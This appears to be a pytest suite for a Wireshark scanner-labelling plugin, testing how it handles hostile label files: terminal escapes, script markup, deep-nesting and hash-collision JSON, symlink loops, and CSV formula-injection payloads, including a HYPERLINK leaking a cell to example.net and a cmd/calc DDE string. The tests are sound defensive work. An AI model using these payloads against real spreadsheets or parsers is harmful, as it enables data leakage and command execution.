# Copyright 2026 the Scan Noise developers
# SPDX-License-Identifier: GPL-2.0-or-later
"""Label files that are odd: with text and mistakes of others, in folders of links, changed while a program runs."""
import csv
import ipaddress
import itertools
import json
import os
import time

import pytest

from builders import line, pcap
from labelled import HEADING, ONE, SIX, TWO, V4, folder, labels, scans
from suite import TABLE
from table import from_sharkd, parse

# --- Text that someone else wrote ----------------------------------------------------------------

NASTY = {
    "control": (b"a\x07b\x1b[31mc\x7f", r"a\x07b\x1b[31mc\x7f"),
    "markup": (b"<b>bold</b><script>&amp;", "<b>bold</b><script>&amp;"),
    "invalid": (b"caf\xe9 \xc3", r"caf\xe9 \xc3"),
    "direction": ("a\u202eb".encode(), r"a\u202eb"),
    "long": (b"x" * 10_000, "x" * 48 + "…"),
    "formats": (b"%s%n%d {} \\n", r"%s%n%d {} \n"),
}


def beginning(item, whole):
    """Whether a terminal has the text, or as much of it as there is room for."""
    return item == whole or item.endswith("…") and whole.startswith(item[:-1].rstrip())


@pytest.mark.parametrize("raw, shown", NASTY.values(), ids=NASTY)
def test_nasty_text(tshark, labels, scans, folder, workdir, raw, shown):
    (folder / "nasty.csv").write_bytes(ONE.encode() + b"," + raw + b"\n")
    assert labels()[ONE] == shown
    done = tshark("-q", "-r", scans, *TABLE, "-z", "scannoise,json", "-z", f"scannoise,flows,{workdir}/flows.csv")
    found = next(text for text in done.stdout.splitlines() if text.startswith("{"))
    assert json.loads(found)["scanners"][0]["label"] == shown
    table = parse(done.stdout)
    assert beginning(table["Organisations"][0].item, shown)
    assert beginning(table["Top scanners"][0].item, f"{ONE}, {shown}")
    with open(workdir / "flows.csv", newline="", encoding="utf-8") as lines:
        assert next(csv.DictReader(lines, strict=True))["label"] == shown


FORMULAS = ['=HYPERLINK("http://example.net/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "a;=1+1"]


@pytest.mark.parametrize("label", FORMULAS)
def test_csv_has_no_formula(tshark, scans, folder, workdir, label):
    """Not where commas are between cells, and not where a spreadsheet takes semicolons for that."""
    (folder / "mine.csv").write_text(f'{ONE},"' + label.replace('"', '""') + '"\n')
    tshark("-q", "-r", scans, "-z", f"scannoise,flows,{workdir}/flows.csv")
    for delimiter in ",;":
        with open(workdir / "flows.csv", newline="") as lines:
            cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
        assert any("1" in cell for cell in cells) and not any(cell[:1] and cell[0] in "=+-@\t\r" for cell in cells)
    with open(workdir / "flows.csv", newline="") as lines:
        assert next(csv.DictReader(lines, strict=True))["label"].replace("'", "") == label.strip().replace("'", "")


# --- Files with mistakes -------------------------------------------------------------------------

def test_lines_that_are_wrong_are_named_and_the_rest_is_used(tshark, folder, scans):
    (folder / "mine.csv").write_text(f"{ONE},One\nnonsense,x\nno comma\n{TWO},Two\n")
    done = tshark("-q", "-r", scans, *TABLE)
    assert [row.item for row in parse(done.stdout)["Top scanners"]][:2] == [f"{ONE}, One", f"{TWO}, Two"]
    assert done.stderr.splitlines() == [
        HEADING,
        f'{folder}/mine.csv:2: "nonsense" is no address, CIDR prefix, host name or AS number',
        f"{folder}/mine.csv:3: no comma between prefix and label"]


def test_reports_are_bounded(tshark, folder, scans):
    (folder / "mine.csv").write_text("nonsense,x\n" * 100_000 + f"{ONE},One\n")
    said = tshark("-q", "-r", scans, "-z", "scannoise,stat").stderr.splitlines()
    assert len(said) == 7 and said[-1] == f"{folder}/mine.csv: 99995 more"


SLOW_JSON = {       # Wireshark's parser takes a time that grows with the square of these
    "deep": '{"name": "x", "list": ' + "[" * 100_000 + "]" * 100_000 + "}",
    "deep and open": "[" * 100_000,
    "deep objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "wide": '{"name": "x", "list": [' + "[]," * 300_000 + "[]]}",
    "many members": '{"name": "x"' + "".join(f', "{n}": {n}' for n in range(300_000)) + "}",
}


@pytest.mark.parametrize("content, complaint", [
    ("{", "is no JSON"), ("[]", "is not a JSON object"), ("", "is not a JSON object"), ("{}", 'lacks "name" or "list"'),
    ('{"name": 7, "list": []}', 'lacks "name" or "list"'), ('{"name": "x", "list": "y"}', 'lacks "name" or "list"'),
    ('{"name": "x",\n "list": [\n"192.0.2.1",\n"z"]}', 'list.json:4: "z" is neither an address nor a CIDR prefix'),
    ('{"name": "x", "list": [1]}', "list.json:1: a prefix must be a string"),
    *((content, "list.json: is no warning list: it has more than 100 objects, lists and members")
      for content in SLOW_JSON.values())], ids=lambda value: value[:30])
def test_json_that_is_wrong(tshark, folder, scans, content, complaint):
    (folder / "list.json").write_text(content)
    done = tshark("-q", "-r", scans, *TABLE)
    assert complaint in done.stderr and "list.json" in done.stderr
    assert parse(done.stdout).scans().packets == 4


def test_a_preference_that_names_nothing_is_refused(tshark, scans):
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": "/nowhere/labels.csv"}, check=False)
    assert done.stderr == \
        "tshark: Scan Noise: preference scannoise.labels: there is no file or folder /nowhere/labels.csv\n"
    assert (done.returncode, done.stdout) == (1, "")


def test_brackets_in_strings_are_text(labels, folder):
    """Near miss: what looks like many parts is a description."""
    (folder / "list.json").write_text(json.dumps({"description": '[{":' * 1000 + '\\"', "name": "One", "list": [ONE]}))
    assert labels()[ONE] == "One"


def test_many_entries_are_no_trouble(labels, folder):
    """A real list has none of these, but a long one is a list."""
    entries = [f"10.{n >> 16}.{n >> 8 & 255}.{n & 255}" for n in range(200_000)]
    (folder / "list.json").write_text(json.dumps({"name": "One", "list": [*entries, ONE]}))
    assert labels()[ONE] == "One"


def test_twenty_bad_files_are_one_message(tshark, folder, scans):
    """A dialog in Wireshark: so it has a heading, some lines of each file, and an end."""
    for n in range(20):
        (folder / f"bad{n:02}.csv").write_text("nonsense,x\n" * 7)
    (folder / "is.json").write_text("[]")
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said[0] == HEADING and said.count(HEADING) == 1
    assert said[1:7] == [*(f'{folder}/bad00.csv:{n}: "nonsense" is no address, CIDR prefix, host name or AS number' for n in range(1, 6)),
                         f"{folder}/bad00.csv: 2 more"]
    assert len(said) == 1 + 5 * 6 + 1 and said[-1] == f"and {15 * 7 + 1} more in other files"


def test_names_of_files_are_escaped(tshark, folder, scans):
    """A file's name is a stranger's text as well, and a terminal obeys it."""
    (folder / "red\x1b[31m\nnext\u202e.csv").write_text("nonsense,x\n")
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said == [HEADING, rf'{folder}/red\x1b[31m\x0anext\u202e.csv:1: "nonsense" is no address, CIDR prefix, host name or AS number']


def test_a_folder_that_cannot_be_read_is_said(tshark, programs, workdir, scans):
    (workdir / "closed").mkdir(mode=0)
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": f"{workdir}/closed"})
    assert done.stderr.splitlines() == [HEADING, f"{workdir}/closed: Permission denied"]


# --- Folders with links ---------------------------------------------------------------------------

def test_a_folder_full_of_links_to_itself(labels, tshark, folder, scans):
    """It was read once for each way to it: 200 * 200 * 200 times."""
    (folder / "mine.csv").write_text(f"{ONE},One\nnonsense,x\n")
    for n in range(200):
        (folder / f"link{n}").symlink_to(folder)
    begun = time.monotonic()
    assert labels()[ONE] == "One"
    assert time.monotonic() - begun < 30
    assert tshark("-q", "-r", scans, *TABLE).stderr.count("nonsense") == 1


def test_links_between_folders(labels, workdir):
    """A ring of folders, each with a file: all are read, in the order in which they are met."""
    for name, to in (("a", "b"), ("b", "c"), ("c", "a")):
        (workdir / "ring" / name).mkdir(parents=True)
        (workdir / "ring" / name / "z").symlink_to(workdir / "ring" / to)
    (workdir / "ring/a/1.csv").write_text(f"{ONE},One\n")
    (workdir / "ring/b/1.csv").write_text(f"{TWO},Two\n")
    (workdir / "ring/c/1.csv").write_text(f"{SIX},Six\n")
    assert labels(prefs={"scannoise.labels": f"{workdir}/ring"}) == {ONE: "One", TWO: "Two", SIX: "Six"}


@pytest.mark.parametrize("link", [os.symlink, os.link])
def test_a_file_of_many_names_is_read_once(tshark, folder, scans, link):
    (folder / "a.csv").write_text("nonsense,x\n")
    for n in range(9):
        link(folder / "a.csv", folder / f"b{n}.csv")
    assert tshark("-q", "-r", scans, *TABLE).stderr.count("nonsense") == 1


def test_the_last_name_of_a_file_counts(labels, folder, workdir):
    """The preference may name a file of the folder, to have the last word."""
    (folder / "a.csv").write_text(f"{ONE},a\n")
    (folder / "b.csv").write_text(f"{ONE},b\n")
    assert labels()[ONE] == "b"
    assert labels(prefs={"scannoise.labels": f"{folder}/a.csv"})[ONE] == "a"


def test_too_many_files(labels, tshark, folder, scans):
    for n in range(4200):
        (folder / f"{n:05}.csv").write_text(f"{ONE},{n}\n")
    assert labels()[ONE] == "4095"
    said = tshark("-q", "-r", scans, *TABLE).stderr.splitlines()
    assert said == [HEADING, f"{folder}: more than 4096 label files, or 65536 of all files, are not looked at"]


def test_a_pipe_is_not_waited_for(tshark, workdir, scans):
    os.mkfifo(workdir / "pipe.csv")
    done = tshark("-q", "-r", scans, *TABLE, prefs={"scannoise.labels": f"{workdir}/pipe.csv"})
    assert "pipe.csv" in done.stderr


# --- While the program runs ----------------------------------------------------------------------

def test_files_are_read_again_when_they_have_changed(programs, sharkd, scans, folder, workdir):
    """One sharkd, two openings of the capture, and a preference set in between; no report comes twice."""
    (folder / "bad.csv").write_text("nonsense,x\n")
    (workdir / "mine.csv").write_text(f"{ONE},By preference\n")
    tap = ("tap", {"tap0": "nstat:scannoise,stat"})
    first, _, _, second = sharkd(scans, tap, ("setconf", {"name": "scannoise.labels", "value": f"{workdir}/mine.csv"}),
                                 ("load", {"file": str(scans)}), tap)
    assert from_sharkd(first)["Organisations"] == []
    assert [row.item for row in from_sharkd(second)["Organisations"]] == ["By preference"]


def test_many_prefixes_are_quick(tshark, scans, folder):
    """Two hundred thousand prefixes: read once, and each look-up costs a dozen steps."""
    with open(folder / "many.csv", "w") as file:
        for n in range(200_000):
            file.write(f"{10 + n % 90}.{n // 256 % 256}.{n % 256}.{n % 7}/{32 - n % 12},Label {n}\n")
        file.write(f"{ONE},One\n")
    begun = time.monotonic()
    assert parse(tshark("-q", "-r", scans, *TABLE).stdout)["Organisations"][0].item == "One"
    assert time.monotonic() - begun < 30


def test_names_that_collide_are_as_quick(tshark, workdir, folder):
    """65 536 organisations whose names have one hash in GLib's tables: they took it 79 s."""
    names = ["".join(pairs) for pairs in itertools.product(("ab", "bA"), repeat=16)]
    first = int(ipaddress.ip_address("198.18.0.0"))
    (folder / "mine.csv").write_text("".join(
        f"{ipaddress.ip_address(first + n)},{name}\n" for n, name in enumerate(names)))
    before, after = bytes(line(V4.tcp(ONE, V4.router, "S"))).split(ipaddress.ip_address(ONE).packed)
    path = workdir / "crowd.pcap"
    path.write_bytes(pcap([(n, before + (first + n).to_bytes(4, "big") + after) for n in range(len(names))]))
    begun = time.monotonic()
    said = json.loads(tshark("-q", "-r", path, "-z", "scannoise,json").stdout)
    assert time.monotonic() - begun < 30
    assert {row["name"] for row in said["organisations"]} == set(names)
